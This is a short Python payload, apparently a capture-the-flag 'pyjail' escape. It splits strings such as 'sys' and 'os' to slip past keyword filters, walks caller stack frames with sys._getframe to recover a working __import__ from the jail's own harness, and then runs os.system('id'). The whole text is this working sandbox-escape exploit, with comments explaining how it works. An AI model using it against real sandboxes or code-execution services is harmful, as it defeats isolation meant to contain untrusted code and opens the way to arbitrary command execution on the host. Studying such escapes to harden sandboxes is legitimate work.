# Walks outward through caller frames until it finds a scope whose
# builtins/globals still carry a working __import__ (e.g. the jail's own
# harness frame), then uses it.
fetch = getattr(__import__('s' + 'ys'), '_get' + 'frame')
f = fetch(0)
found = None
while f is not None and found is None:
    for scope in (f.f_locals, f.f_globals, f.f_builtins):
        imp = scope.get('__import__')
        if callable(imp):
            found = imp
            break
    f = f.f_back
found('o' + 's').system('id')
